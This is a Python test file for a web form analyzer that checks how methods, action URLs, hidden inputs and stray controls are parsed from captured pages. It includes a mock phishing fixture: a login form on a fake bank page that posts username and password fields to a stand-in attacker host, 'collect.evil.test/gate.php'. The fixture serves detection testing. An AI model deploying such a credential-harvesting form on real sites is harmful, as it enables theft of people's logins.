from __future__ import annotations

from spyglass.analyze.document.forms import analyze_forms, form_method, resolve_action_url
from tests.analyze.captures import ARTICLE_DOM, ARTICLE_URL

NEWSLETTER_HIDDEN = [
    "subscribeId",
    "processorId",
    "validateEmail",
    "bot-field",
    "captchaUserToken",
    "signupSource",
]


def test_news_page_has_two_forms() -> None:
    forms = analyze_forms(ARTICLE_DOM, ARTICLE_URL)
    assert len(forms) == 2
    assert [f.method for f in forms] == ["GET", "GET"]


def test_search_form_action_resolves_against_base_href() -> None:
    search = analyze_forms(ARTICLE_DOM, ARTICLE_URL)[0]
    assert search.action == "/search"
    assert search.action_url == "https://daily.example/search"
    assert search.action_domain == "daily.example"
    assert [(i.tag, i.type, i.name) for i in search.inputs] == [
        ("input", "search", "q"),
        ("button", "submit", None),
        ("button", "button", None),
    ]
    assert search.inputs[0].id == "searchTerm"
    assert search.html.startswith('<form class="slide-search__form" action="/search"')
    assert search.html.endswith("</form>")


def test_newsletter_form_without_action_posts_to_the_document_not_the_base() -> None:
    newsletter = analyze_forms(ARTICLE_DOM, ARTICLE_URL)[1]
    assert newsletter.action is None
    assert newsletter.action_url == ARTICLE_URL
    assert newsletter.action_domain == "daily.example"
    assert newsletter.has_password is False


def test_hidden_inputs_in_order_including_the_one_outside_joined_by_form_attribute() -> None:
    newsletter = analyze_forms(ARTICLE_DOM, ARTICLE_URL)[1]
    assert [i.name for i in newsletter.inputs if i.hidden] == NEWSLETTER_HIDDEN
    values = {i.name: i.value for i in newsletter.inputs}
    assert values["subscribeId"] == "0000014f-1646-d88f-a1cf-5f46b7bd0000"
    assert values["bot-field"] == ""
    assert values["signupSource"] == "footer"


def test_select_textarea_and_button_values() -> None:
    newsletter = analyze_forms(ARTICLE_DOM, ARTICLE_URL)[1]
    by_name = {i.name: i for i in newsletter.inputs if i.name}
    assert (by_name["frequency"].type, by_name["frequency"].value) == ("select-one", "weekly")
    assert (by_name["comment"].tag, by_name["comment"].value) == ("textarea", "Tell us why")
    assert by_name["subscribeEmail"].type == "email"
    assert [i.tag for i in newsletter.inputs][-2:] == ["button", "input"]  # submit, then footer


PHISH = """<html><body>
<form id="login" action="https://collect.evil.test/gate.php" method="POST">
  <input type="email" name="user">
  <input type="password" name="pass">
  <input name="relay" form="other">
</form>
<form id="other" method="put" action="  "></form>
<input name="orphan" form="nowhere">
<input name="stray">
<form method="dialog"><button>Close</button></form>
</body></html>"""


def test_credential_form_posting_to_another_host() -> None:
    login, other, dialog = analyze_forms(PHISH, "https://bank.test/signin")
    assert (login.method, login.action_url, login.action_domain) == (
        "POST",
        "https://collect.evil.test/gate.php",
        "collect.evil.test",
    )
    assert login.has_password is True
    assert [i.name for i in login.inputs] == ["user", "pass"]  # "relay" belongs to #other
    assert [i.name for i in other.inputs] == ["relay"]
    assert (other.method, other.action, other.action_url) == (
        "GET",
        "  ",
        "https://bank.test/signin",
    )
    assert dialog.method == "DIALOG"
    assert dialog.inputs[0].type == "submit"


def test_controls_without_a_form_belong_to_none() -> None:
    names = [i.name for form in analyze_forms(PHISH, "https://bank.test/") for i in form.inputs]
    assert "orphan" not in names and "stray" not in names


def test_javascript_action_has_no_domain() -> None:
    (form,) = analyze_forms('<form action="javascript:go()"></form>', "https://a.test/")
    assert form.action_url == "javascript:go()"
    assert form.action_domain is None


def test_no_dom_no_forms() -> None:
    assert analyze_forms(None, "https://a.test/") == []
    assert analyze_forms("", "https://a.test/") == []


def test_method_and_action_rules() -> None:
    assert [form_method(m) for m in ["get", "POST", None, "", "delete", "dialog"]] == [
        "GET",
        "POST",
        "GET",
        "GET",
        "GET",
        "DIALOG",
    ]
    assert resolve_action_url("", "https://a.test/p", "https://b.test/") == "https://a.test/p"
    assert resolve_action_url("x", "https://a.test/p", "https://b.test/d/") == "https://b.test/d/x"
